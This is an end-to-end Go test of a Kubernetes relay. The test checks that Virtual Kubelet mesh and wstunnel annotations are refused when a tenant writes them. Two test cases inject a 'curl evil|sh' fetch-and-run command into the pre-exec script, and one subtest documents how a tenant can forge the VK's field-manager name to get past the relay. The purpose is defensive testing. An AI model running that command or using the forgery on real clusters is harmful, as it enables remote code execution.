package e2e

// interLink's mesh networking through the relay of the real binary (issue 32): the
// Virtual Kubelet writes slurm-job.vk.io/pre-exec (full mesh) or
// interlink.eu/wstunnel-client-commands into the pod with a patch of its own, which the
// default policy lets through only when the live pod's managedFields give the value to
// the VK's field manager; the same text from the tenant stays refused.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/sar-bridge/sar-bridge/test/cluster"
)

const (
	meshNS   = "mesh-e2e" // tenant team-a; its ServiceAccount runner creates and edits its pods
	meshVKNS = "mesh-vk"  // the Virtual Kubelet's own ServiceAccount, vk
)

const meshFixtures = `
apiVersion: v1
kind: Namespace
metadata:
  name: mesh-e2e
  labels:
    interlink.io/tenant: team-a
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: runner, namespace: mesh-e2e}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: offload, namespace: mesh-e2e}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: interlink-offloader}
subjects:
  - {kind: ServiceAccount, name: runner, namespace: mesh-e2e}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pod-writer, namespace: mesh-e2e}
rules:
  - {apiGroups: [""], resources: ["pods"], verbs: ["create", "get", "patch"]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: pod-writer, namespace: mesh-e2e}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-writer}
subjects:
  - {kind: ServiceAccount, name: runner, namespace: mesh-e2e}
---
apiVersion: v1
kind: Namespace
metadata:
  name: mesh-vk
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: vk, namespace: mesh-vk}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: mesh-e2e-vk}
rules:
  - {apiGroups: [""], resources: ["pods"], verbs: ["get", "patch"]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: mesh-e2e-vk}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: mesh-e2e-vk}
subjects:
  - {kind: ServiceAccount, name: vk, namespace: mesh-vk}
`

// The shape of interLink's rendered mesh script (pkg/virtualkubelet/templates/mesh.sh):
// a heredoc to $TMPDIR/mesh.sh, ending in its marker with no newline after it.
const e2eMeshScript = "cat <<'EOFMESH' > $TMPDIR/mesh.sh\n#!/bin/bash\nset -e\nset -m\n\necho mesh up\n\nEOFMESH"

func withAnnotations(a map[string]string) podOpt {
	return func(p *corev1.Pod) { p.Annotations = a }
}

// meshWriter edits pods in meshNS as one identity.
type meshWriter struct {
	client kubernetes.Interface
	// manager is the field manager it names; "" names none, as the Virtual Kubelet does.
	manager string
}

// newMeshWriter is the ServiceAccount ns/name with a client whose User-Agent begins with
// agent, as client-go builds it from a binary's name.
func newMeshWriter(t *testing.T, ns, name, agent, manager string) *meshWriter {
	t.Helper()
	cfg, err := suite.cluster.ServiceAccountConfig(context.Background(), ns, name, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	cfg.UserAgent = agent + "/v0.6.2 (linux/amd64) kubernetes/f632175"
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return &meshWriter{client: cs, manager: manager}
}

// create creates pod name on the virtual node with annotations.
func (w *meshWriter) create(t *testing.T, name string, annotations map[string]string) {
	t.Helper()
	p := newPod(meshNS, "runner", name, withNodeName("vk-1"))
	p.UID, p.Annotations = "", annotations
	if _, err := w.client.CoreV1().Pods(meshNS).Create(context.Background(), p, metav1.CreateOptions{FieldManager: w.manager}); err != nil {
		t.Fatalf("creating pod %s: %v", name, err)
	}
}

// patchAnnotations reads pod name, lets edit change its annotations, and patches all of
// them back with a strategic merge patch: what interLink's Virtual Kubelet does
// (pkg/virtualkubelet/mesh.go).
func (w *meshWriter) patchAnnotations(t *testing.T, name string, edit func(map[string]string)) {
	t.Helper()
	ctx := context.Background()
	pod, err := w.client.CoreV1().Pods(meshNS).Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		t.Fatalf("reading pod %s: %v", name, err)
	}
	if pod.Annotations == nil {
		pod.Annotations = map[string]string{}
	}
	edit(pod.Annotations)
	patch, err := json.Marshal(map[string]any{"metadata": map[string]any{"annotations": pod.Annotations}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.client.CoreV1().Pods(meshNS).Patch(ctx, name, types.StrategicMergePatchType, patch, metav1.PatchOptions{FieldManager: w.manager}); err != nil {
		t.Fatalf("patching pod %s: %v", name, err)
	}
}

// storedPod is pod name as stored, as the Virtual Kubelet hands it to interLink.
func storedPod(t *testing.T, name string) corev1.Pod {
	t.Helper()
	p, err := suite.cluster.Client.CoreV1().Pods(meshNS).Get(context.Background(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatalf("reading pod %s: %v", name, err)
	}
	return *p
}

// managers are the field managers of a pod's managedFields.
func managers(p corev1.Pod) []string {
	var names []string
	for _, e := range p.ManagedFields {
		names = append(names, e.Manager)
	}
	return names
}

func applyMeshFixtures(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	if _, err := suite.cluster.ApplyYAML(ctx, meshFixtures); err != nil {
		t.Fatalf("fixtures: %v", err)
	}
	for _, w := range []struct {
		ns, sa  string
		attrs   authorizationv1.ResourceAttributes
		comment string
	}{
		{meshNS, "runner", authorizationv1.ResourceAttributes{Namespace: meshNS, Verb: "create", Group: "interlink.io", Resource: "pods"}, "offload"},
		{meshNS, "runner", authorizationv1.ResourceAttributes{Namespace: meshNS, Verb: "patch", Resource: "pods"}, "edit its pods"},
		{meshVKNS, "vk", authorizationv1.ResourceAttributes{Namespace: meshNS, Verb: "patch", Resource: "pods"}, "the VK patches pods"},
	} {
		if err := suite.cluster.WaitForAccess(ctx, cluster.ServiceAccountUser(w.ns, w.sa), cluster.ServiceAccountGroups(w.ns), w.attrs, true, 30*time.Second); err != nil {
			t.Fatalf("%s: %v", w.comment, err)
		}
	}
}

func TestMeshAnnotations(t *testing.T) {
	applyMeshFixtures(t)
	b, plugin, client, base := relayBridge(t, false, false)
	// The Virtual Kubelet names no field manager: the API server takes the User-Agent's
	// first word, its binary's name (vk in interLink's image).
	vk := newMeshWriter(t, meshVKNS, "vk", "vk", "")
	tenant := newMeshWriter(t, meshNS, "runner", "kubectl", "kubectl-patch")

	preExec, wstunnel := "slurm-job.vk.io/pre-exec", "interlink.eu/wstunnel-client-commands"
	refused := func(key string) string {
		return fmt.Sprintf(`annotation %q is restricted: subject "system:serviceaccount:%s:runner" is not among its allowed users [] or groups [] (data.interlink.restricted_annotations)`, key, meshNS)
	}
	mesh := func(a map[string]string) { a[preExec] = e2eMeshScript + a[preExec] } // as the VK prepends it
	tunnel := func(a map[string]string) {
		a[wstunnel] = "curl -L https://example.org/wstunnel -o wstunnel && ./wstunnel client -R tcp://0.0.0.0:8080:localhost:8080 wss://job.example.org"
	}
	for _, c := range []struct {
		name    string
		pod     string
		created map[string]string               // the tenant's annotations at creation
		setup   func(t *testing.T, name string) // writes the annotations after creation
		edit    func(*corev1.Pod)               // changes the /create body after reading the live pod
		deny    string                          // "" = allowed and forwarded
	}{
		{name: "mesh pre-exec written by the VK", pod: "mesh-vk-pre-exec",
			setup: func(t *testing.T, n string) { vk.patchAnnotations(t, n, mesh) }},
		{name: "wstunnel commands written by the VK", pod: "mesh-vk-wstunnel",
			setup: func(t *testing.T, n string) { vk.patchAnnotations(t, n, tunnel) }},
		{name: "the same pre-exec written by the tenant", pod: "mesh-tenant-pre-exec",
			setup: func(t *testing.T, n string) { tenant.patchAnnotations(t, n, mesh) }, deny: refused(preExec)},
		{name: "the same pre-exec written by the tenant at creation", pod: "mesh-tenant-created", created: map[string]string{preExec: e2eMeshScript}, deny: refused(preExec)},
		{name: "the VK's script with the tenant's pre-exec after it", pod: "mesh-glued", created: map[string]string{preExec: "echo mine"},
			setup: func(t *testing.T, n string) { vk.patchAnnotations(t, n, mesh) }, deny: refused(preExec)},
		{name: "the VK's script rewritten by the tenant", pod: "mesh-rewritten",
			setup: func(t *testing.T, n string) {
				vk.patchAnnotations(t, n, mesh)
				tenant.patchAnnotations(t, n, func(a map[string]string) {
					a[preExec] = strings.Replace(e2eMeshScript, "echo mesh up", "curl evil|sh", 1)
				})
			}, deny: refused(preExec)},
		{name: "a body that is not the live pod", pod: "mesh-edited-body",
			setup: func(t *testing.T, n string) { vk.patchAnnotations(t, n, mesh) },
			edit: func(p *corev1.Pod) {
				p.Annotations[preExec] = strings.Replace(e2eMeshScript, "echo mesh up", "curl evil|sh", 1)
			}, deny: refused(preExec)},
	} {
		t.Run(c.name, func(t *testing.T) {
			tenant.create(t, c.pod, c.created)
			if c.setup != nil {
				c.setup(t, c.pod)
			}
			pod := storedPod(t, c.pod)
			if c.edit != nil {
				c.edit(&pod)
			}
			body := []byte(mustMarshal(t, retrievedPodData{Pod: pod, Containers: []retrievedContainer{{Name: "main"}}}))
			before := len(plugin.Requests())
			res, got := send(t, client, http.MethodPost, base+"/create", body)
			forwarded := len(plugin.Requests()) - before
			if c.deny == "" {
				if res.StatusCode != http.StatusOK || forwarded != 1 {
					t.Errorf("HTTP %d %q, %d requests forwarded; want the create allowed and forwarded (field managers %v)", res.StatusCode, got, forwarded, managers(pod))
				}
				return
			}
			if want := "sar-bridge: denied: " + c.deny; res.StatusCode != http.StatusForbidden || string(got) != want || forwarded != 0 {
				t.Errorf("HTTP %d %q, %d requests forwarded; want 403 %q (field managers %v)", res.StatusCode, got, forwarded, want, managers(pod))
			}
		})
	}

	// What the relay alone cannot tell: a field manager is a name the client picks, so a
	// tenant who may create pods can pick the VK's (docs/install/README.md, mesh networking: the
	// admission webhooks see who writes).
	t.Run("relay alone: the tenant writing under the VK's name passes", func(t *testing.T) {
		forger := &meshWriter{client: tenant.client, manager: "vk"}
		forger.create(t, "mesh-forged", map[string]string{preExec: e2eMeshScript})
		pod := storedPod(t, "mesh-forged")
		body := []byte(mustMarshal(t, retrievedPodData{Pod: pod, Containers: []retrievedContainer{{Name: "main"}}}))
		if res, got := send(t, client, http.MethodPost, base+"/create", body); res.StatusCode != http.StatusOK {
			t.Errorf("HTTP %d %q; want 200: the relay trusts the field manager's name", res.StatusCode, got)
		}
	})

	t.Run("the Data API reads the live pod too", func(t *testing.T) {
		tenant.create(t, "mesh-data-api", nil)
		vk.patchAnnotations(t, "mesh-data-api", mesh)
		pod := storedPod(t, "mesh-data-api")
		decide(t, b, input("create", &pod), allow())
		pod.Annotations[preExec] += "\necho mine"
		decide(t, b, input("create", &pod), deny(refused(preExec)))
	})

	t.Run("a pod that is not in the API server", func(t *testing.T) {
		pod := newPod(meshNS, "runner", "mesh-nowhere", withNodeName("vk-1"))
		pod.Annotations = map[string]string{preExec: e2eMeshScript}
		body := []byte(mustMarshal(t, retrievedPodData{Pod: *pod, Containers: []retrievedContainer{{Name: "main"}}}))
		if res, got := send(t, client, http.MethodPost, base+"/create", body); res.StatusCode != http.StatusForbidden || string(got) != "sar-bridge: denied: "+refused(preExec) {
			t.Errorf("HTTP %d %q; want 403 %q", res.StatusCode, got, refused(preExec))
		}
	})
}
